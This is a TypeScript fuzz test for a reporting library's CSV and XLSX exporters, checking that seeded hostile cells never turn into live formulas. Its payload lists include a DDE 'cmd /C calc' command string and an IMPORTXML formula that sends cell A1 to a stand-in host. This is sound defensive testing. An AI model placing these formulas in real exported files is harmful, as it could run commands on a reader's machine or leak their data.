import { writeCsv, writeXlsx } from "@rode-draad/reports";
import { cellsOfCsv, formulasInCsv, readWorkbookBack } from "../../workers/6-reports/test/read-back.js";
import { atMost, type FigureRow } from "../quality/figure-row.js";
import { seededRandom } from "../quality/seeded-random.js";

/** S4: no cell of an export is read as a formula. */

const CELLS = 10_000;
const CELLS_A_ROW = 4;

const LEADS = [
  "",
  " ",
  "\t",
  "\r",
  "\n",
  "\r\n",
  "\u0000",
  "\u00a0",
  "\u200b",
  "\ufeff",
  "\u2060",
  '"',
  "'",
  '""',
  "\u0301",
];
const SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "−", "⁺", "⁼", "a"];
const BODIES = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://elders.example","klik")',
  "SUM(A1:A9)*cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("https://elders.example/",A1),"//a")',
  "5",
  "x",
];
const BREAKS = [";", ",", "|", "\t", '"', '";', '",', '"\r\n', "\n", ";;", "; ", ', "', "';"];

export async function measureExports(): Promise<FigureRow[]> {
  const cells = hostileCells(CELLS);
  const rows: string[][] = [];
  for (let start = 0; start < cells.length; start += CELLS_A_ROW) rows.push(cells.slice(start, start + CELLS_A_ROW));
  const csv = writeCsv(rows, { byteOrderMark: true });
  const workbook = readWorkbookBack(await writeXlsx(rows, "2026-10"));
  const numbers = ["-5", "-1,5", "-0.25"];
  const kept = cellsOfCsv(writeCsv([numbers]))[0] ?? [];
  const lost = CELLS - cellsOfCsv(csv).flat().length + (CELLS - workbook.cells);
  return [
    atMost(`S4: cells of ${CELLS} in CSV read as a formula, with any delimiter`, 0, formulasInCsv(csv).length),
    atMost(`S4: cells of ${CELLS} in a workbook read as a formula`, 0, workbook.formulas),
    atMost(
      "S4: cells of the workbook read as a formula when it is saved as CSV",
      0,
      formulasInCsv(workbook.texts.map((text) => `"${text.replaceAll('"', '""')}"`).join("\r\n")).length,
    ),
    atMost("S4: cells that were lost on the way", 0, lost),
    atMost(
      "S4: negative numbers that became text",
      0,
      numbers.filter((number, index) => kept[index] !== number).length,
    ),
  ];
}

/** Cells that begin as a formula, or start one after a delimiter, a quote or a line end. The same every time. */
export function hostileCells(count: number): string[] {
  const random = seededRandom(20_261_122);
  const pick = <Item>(list: readonly Item[]): Item => list[Math.floor(random() * list.length)] as Item;
  return Array.from({ length: count }, () => {
    const attack = pick(LEADS) + pick(LEADS) + pick(SIGNS) + pick(BODIES);
    return random() < 0.5 ? attack : `Huur${pick(BREAKS)}${attack}`;
  });
}
